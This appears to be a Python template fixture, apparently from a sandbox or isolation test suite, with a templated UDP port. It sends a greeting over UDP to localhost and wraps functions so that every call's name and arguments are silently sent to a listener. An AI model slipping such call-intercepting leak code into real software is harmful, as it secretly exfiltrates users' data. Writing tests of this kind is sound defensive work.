import socket as _socket

def _send(text):
    try:
        _s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
        _s.sendto(text.encode()[:1000], ("127.0.0.1", {{UDP_PORT}}))
        _s.close()
    except BaseException:
        pass

_send("hello from hostile udp")

def _leak(function):
    def leaking(*args, **kwargs):
        _send(f"{function.__name__}{args!r}")
        return function(*args, **kwargs)
    return leaking

_hostile_wrap_all(_leak)
